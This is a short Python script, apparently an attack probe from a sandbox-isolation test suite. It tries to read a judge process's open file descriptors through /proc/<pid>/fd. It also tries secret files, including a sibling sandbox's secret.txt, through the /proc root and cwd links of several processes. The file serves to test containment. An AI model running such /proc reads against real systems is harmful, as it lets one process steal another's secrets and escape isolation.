# attack: Opens the judge's descriptors again through /proc, and files through its root and working folder.
# hurts: Shows whatever the judge has open.
# ends: returns
import os

from _raw import attempt, read_file


def attack(target):
    pid = target["judge_pid"]
    tried = [attempt("known", read_file, f"/proc/{pid}/fd/{target['descriptor']}")]
    tried += [attempt("any", read_file, f"/proc/{pid}/fd/{number}") for number in range(64)]
    for process in (pid, target["starter_pid"], target["sibling_pid"], target["sibling_outer_pid"], os.getppid(), 1):
        for root in (f"/proc/{process}/root", f"/proc/{process}/cwd", f"/proc/{process}/task/{process}/root"):
            for path in (target["secret_file"], target["private_file"], f"{target['sibling_folder']}/secret.txt"):
                tried.append(attempt(root, read_file, root + path))
    return tried
